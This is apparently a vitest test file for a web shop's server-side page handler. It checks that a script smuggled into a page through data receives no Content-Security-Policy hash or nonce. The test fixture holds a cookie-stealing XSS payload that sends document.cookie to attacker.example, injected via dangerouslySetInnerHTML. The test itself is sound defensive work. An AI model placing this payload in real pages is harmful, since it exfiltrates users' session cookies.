import { createHash } from "node:crypto";
import { Hono } from "hono";
import { Outlet, Scripts, type ServerBuild } from "react-router";
import { expect, test } from "vitest";
import { SignedInMark } from "~/client/signed-in-mark.tsx";
import * as entry from "~/entry.server.tsx";
import { pageOf } from "~/platform/page-context.ts";
import { tags } from "~/platform/tags.ts";
import { testContext } from "~tests/support/context.ts";
import { createPageHandler } from "./pages.server.ts";

const t = testContext();
const THEIRS = "fetch('https://attacker.example/'+document.cookie)";

/** A shop of one page, into which data brings a script. */
function Root() {
  return (
    <html lang="en">
      <head>
        <SignedInMark />
      </head>
      <body>
        <Outlet />
        <Scripts />
      </body>
    </html>
  );
}
function Page() {
  // biome-ignore lint/security/noDangerouslySetInnerHtml: what the shop's own pages must never do
  return <div dangerouslySetInnerHTML={{ __html: `<script>${THEIRS}</script>` }} />;
}
const files = { module: "/assets/x.js", imports: [], css: [] };
const facts = {
  hasAction: false,
  hasLoader: true,
  hasClientAction: false,
  hasClientLoader: false,
  hasClientMiddleware: false,
  hasErrorBoundary: false,
  hasDefaultExport: true,
  clientActionModule: undefined,
  clientLoaderModule: undefined,
  clientMiddlewareModule: undefined,
  hydrateFallbackModule: undefined,
};

const buildOf = (isPublic: boolean): ServerBuild => ({
  entry: { module: entry },
  routes: {
    root: { id: "root", path: "", module: { default: Root } },
    page: {
      id: "page",
      parentId: "root",
      path: "page",
      module: {
        default: Page,
        loader({ context }) {
          if (isPublic) pageOf(context).cacheUntilChanged(tags.settings);
          return null;
        },
      },
    },
  },
  assets: {
    entry: files,
    routes: {
      root: { id: "root", path: "", ...files, ...facts, hasLoader: false },
      page: { id: "page", parentId: "root", path: "page", ...files, ...facts },
    },
    url: "/assets/manifest.js",
    version: "1",
  },
  publicPath: "/",
  assetsBuildDirectory: "",
  future: {},
  ssr: true,
  isSpaMode: false,
  prerender: [],
  routeDiscovery: { mode: "initial", manifestPath: "/__manifest" },
});

const hashOf = (script: string) =>
  `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

test.each([
  ["kept for everyone", true],
  ["made for one", false],
])("a script that data brings into a page %s is not allowed to run", async (_, isPublic) => {
  const app = new Hono().all(
    "*",
    createPageHandler(t.ctx, async () => buildOf(isPublic), "production"),
  );
  const answer = await app.request("http://shop.test/page");
  const html = await answer.text();
  const policy = answer.headers.get("content-security-policy")!;
  const scripts = [...html.matchAll(/<script[^>]*>([\s\S]*?)<\/script>/g)].map(([, code]) => code!);
  expect(scripts).toContain(THEIRS);
  expect(html).not.toContain("nonce");
  for (const script of scripts) {
    expect([script, policy.includes(hashOf(script))]).toEqual([script, script !== THEIRS]);
  }
  expect(scripts.length).toBeGreaterThan(3);
  expect(policy).toContain("connect-src 'self' ws://shop.test;");
});
